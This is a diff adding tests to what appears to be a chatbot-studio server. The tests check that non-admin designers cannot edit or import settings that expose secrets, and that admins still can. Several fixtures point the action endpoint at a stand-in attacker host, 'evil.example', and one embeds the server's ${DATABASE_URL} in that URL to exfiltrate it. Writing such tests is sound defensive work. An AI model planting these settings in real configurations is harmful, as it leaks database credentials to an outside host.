@@ -150,3 +150,39 @@ async def test_a_program_is_not_written_by_solving_a_conflict(studio: Studio, ac
     designer = await bearer(accounts, "designer")
     refused = await studio.http.post("/api/projects/bank/branches/merge", json=body, headers=designer)
     assert refused.status_code == 403
+
+
+async def test_where_secrets_and_callers_words_go_is_for_admins_to_say(studio: Studio, accounts: Accounts) -> None:
+    """A designer's own address beside `${NAME}` would have the server send its secrets there."""
+    designer, admin = await bearer(accounts, "designer"), await bearer(accounts, "admin")
+    stolen = {"op": "write_file", "path": "endpoints.yml", "text": "action_endpoint: {url: 'https://evil.example'}\n"}
+    asking = {"op": "write_file", "path": "config.yml", "text": "recipe: default.v1\nlanguage: ${DATABASE_URL}\n"}
+    below = {"op": "write_file", "path": "sub_agents/shop/config.yml", "text": "connection: {url: '${DATABASE_URL}'}\n"}
+    moved = {"op": "put", "section": "slots", "name": "a", "value": {"type": "text"}, "file": "credentials.yml"}
+    for command in (stolen, asking, below, moved):
+        refused = await studio.http.post("/api/projects/bank/edit", json={"commands": [command]}, headers=designer)
+        assert refused.status_code == 403, refused.text
+        assert refused.json()["code"] == "settings-refused"
+    assert not (studio.served / "sub_agents").exists()
+    plain = {"op": "write_file", "path": "config.yml", "text": (studio.served / "config.yml").read_text() + "# seen\n"}
+    taken = await studio.http.post("/api/projects/bank/edit", json={"commands": [plain]}, headers=designer)
+    assert taken.status_code == 200, taken.text
+    seen = await studio.http.get("/api/projects/bank/files/endpoints.yml", headers=admin)
+    base = {"files": {"endpoints.yml": seen.json()["etag"]}}
+    by_admin = await studio.http.post(
+        "/api/projects/bank/edit", json={"commands": [stolen], "base": base}, headers=admin
+    )
+    assert by_admin.status_code == 200, by_admin.text
+
+
+async def test_settings_that_ask_for_the_servers_variables_come_in_with_an_admin_only(
+    studio: Studio, accounts: Accounts
+) -> None:
+    designer = await bearer(accounts, "designer")
+    asking = zipped(**{"endpoints.yml": "action_endpoint: {url: 'https://evil.example/${DATABASE_URL}'}\n"})
+    refused = await studio.http.post("/api/projects/import?name=Shop", content=asking, headers={**ZIP, **designer})
+    assert refused.status_code == 403, refused.text
+    assert refused.json()["code"] == "settings-refused"
+    body = {"name": "other", "solved": {"endpoints.yml": "action_endpoint: {url: 'https://evil.example'}\n"}}
+    solved = await studio.http.post("/api/projects/bank/branches/merge", json=body, headers=designer)
+    assert solved.json()["code"] == "settings-refused"
